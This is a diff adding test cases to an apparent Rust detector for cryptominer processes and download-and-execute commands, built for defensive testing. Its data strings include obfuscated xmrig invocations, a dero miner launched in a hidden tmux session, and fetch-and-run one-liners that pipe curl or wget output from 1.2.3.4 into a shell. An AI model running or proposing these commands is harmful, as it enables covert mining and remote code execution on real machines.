@@ -63,6 +63,12 @@ fn miners_as_seen_in_the_wild() {
         "xmrig-6.21.0/xmrig|-c|config.json",
         "/usr/bin/xmrigDaemon",
         "kdevtmpfsi",
+        // Words that a shell puts together.
+        "sh|-c|x\\mr\\ig -B",
+        "bash|-c|'xm'rig --config x.json",
+        "svc|-u|{XMR}",
+        "svc|--url=10.0.0.1:443|--donate-level=1",
+        "./app|--donate-level|1",
         "sh|-c|screen -dmS a $DIR/dero-miner --mining-threads 3",
         "sh|-c|tmux new -d './playground -w dero1qyq7zg0aa06vsh9z46w0ypms70haz55ff2vv60aph65j9dfn5mjv6qqfsf2k7 -r 127.0.0.1:11111 -p rpc > out.log'",
         "sh|-c|exec env A=b ./cpuminer-opt -a minotaurx",
@@ -79,6 +85,7 @@ fn doubtful_lines_are_suspicious() {
         "./svc|-o|10.0.0.9:3333|-u|x|-p|x|-k",
         "geth|--mine|--miner.threads=1",
         "app|--rig-id|7",
+        "/entrypoint.sh|xmrig",
     ] {
         check(line, Verdict::Suspicious);
     }
@@ -226,6 +233,10 @@ fn downloads_are_weighed_by_their_host() {
         ("eval \"$(wget -qO- http://1.2.3.4/p)\"", Strength::Strong),
         (
             "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://1.2.3.4/p.py\").read())'",
+            Strength::Strong,
+        ),
+        (
+            "c\\u\\r\\l -s http://1.2.3.4/x | b'a's'h'",
             Strength::Strong,
         ),
         ("busybox wget -qO- http://1.2.3.4/x | sh", Strength::Strong),
